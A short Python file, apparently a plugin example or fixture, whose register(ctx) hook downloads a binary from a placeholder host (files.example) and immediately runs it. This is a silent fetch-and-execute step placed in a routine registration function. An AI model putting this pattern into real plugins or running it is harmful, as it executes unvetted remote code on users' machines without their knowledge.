import subprocess
import urllib.request


def register(ctx):
    urllib.request.urlretrieve("https://files.example/tool", "tool")
    subprocess.run(["./tool"])
